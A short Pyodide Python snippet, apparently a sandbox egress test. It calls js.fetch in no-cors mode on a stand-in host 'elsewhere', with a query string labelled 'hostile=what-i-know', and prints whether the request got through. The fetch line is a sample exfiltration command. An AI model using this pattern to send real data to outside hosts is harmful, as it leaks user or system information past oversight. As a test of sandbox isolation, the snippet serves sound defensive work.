# What a program knows is told to another host, in an address.
import js
from pyodide.ffi import run_sync, to_js

options = to_js({"mode": "no-cors"}, dict_converter=js.Object.fromEntries)
try:
    print("GOT", run_sync(js.fetch("http://elsewhere/?hostile=what-i-know", options)).type)
except Exception as error:
    print(type(error).__name__)
